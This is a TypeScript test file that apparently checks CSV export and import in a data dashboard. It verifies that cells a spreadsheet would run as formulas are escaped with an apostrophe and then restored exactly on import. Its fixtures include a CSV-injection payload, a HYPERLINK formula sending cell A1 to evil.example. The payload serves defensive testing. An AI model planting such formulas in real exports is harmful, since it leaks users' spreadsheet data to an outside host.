// CSV injection: cells a spreadsheet would run as a formula are neutralised on export, and restored exactly on import.
import { beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '$lib/csv/csv';
import { loadDataset } from '$lib/server/read-data';
import type { Dataset, Defection } from '$lib/schema';
import { cellsToRecord } from './columns';
import { splitCsvComments, toCsv } from './csv';
import { viewFile } from './download';
import { toJsonExport, type JsonExport } from './json';
import { exportMeta } from './meta';

let data: Dataset;
let ulPov: Defection;
beforeAll(() => {
  data = loadDataset().dataset;
  ulPov = data.defections.find((record) => record.id === 'ul-pov')!;
});

/** The notes as written on export, and as written in the CSV's notes cell. */
const NOTES: [string, string][] = [
  ['=HYPERLINK("https://evil.example/?leak="&A1, "Click")', '\'=HYPERLINK("https://evil.example/?leak="&A1, "Click")'],
  ['+1 (855) 23 000 000', "'+1 (855) 23 000 000"],
  ['-x', "'-x"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\tx', "'\tx"],
  ['\rx', "'\rx"],
  ["'=x", "''=x"],
  ["''-x", "'''-x"],
  ["'plain", "'plain"],
  ['Plain = text - with @ signs', 'Plain = text - with @ signs']
];

/** The body rows of a CSV export, keyed by column name. */
function rowsOf(csv: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(splitCsvComments(csv).body);
  return rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]])));
}

const withNotes = (notes: string): Defection => ({ ...ulPov, notes });

describe('CSV injection (OWASP): a cell a spreadsheet would run as a formula', () => {
  it.each(NOTES)('the export writes notes %j as %j', (notes, cell) => {
    const [row] = rowsOf(toCsv({ ...data, defections: [withNotes(notes)] }, exportMeta(data.changes)));
    expect(row.notes).toBe(cell);
  });

  it.each(NOTES)("the dashboard's 'Download this view' CSV writes notes %j as %j", (notes, cell) => {
    const document = JSON.parse(JSON.stringify(toJsonExport({ ...data, defections: [withNotes(notes)] }, exportMeta(data.changes)))) as JsonExport;
    const [row] = rowsOf(viewFile(document, ['ul-pov'], 'csv').body);
    expect(row.notes).toBe(cell);
  });

  it.each(NOTES)('export → import gives notes %j back exactly', (notes) => {
    const [row] = rowsOf(toCsv({ ...data, defections: [withNotes(notes)] }, exportMeta(data.changes)));
    expect(cellsToRecord(row).input.notes).toBe(notes);
  });

  it('leaves the header, the "#" lines and the other cells alone', () => {
    const [csv, plain] = [withNotes('=1+1'), ulPov].map((record) => toCsv({ ...data, defections: [record] }, exportMeta(data.changes)));
    expect(splitCsvComments(csv).comments).toEqual(splitCsvComments(plain).comments);
    const [[header, row], [plainHeader, plainRow]] = [csv, plain].map((text) => parseCsv(splitCsvComments(text).body));
    expect(header).toEqual(plainHeader);
    expect(row.filter((_, i) => header[i] !== 'notes')).toEqual(plainRow.filter((_, i) => header[i] !== 'notes'));
  });
});
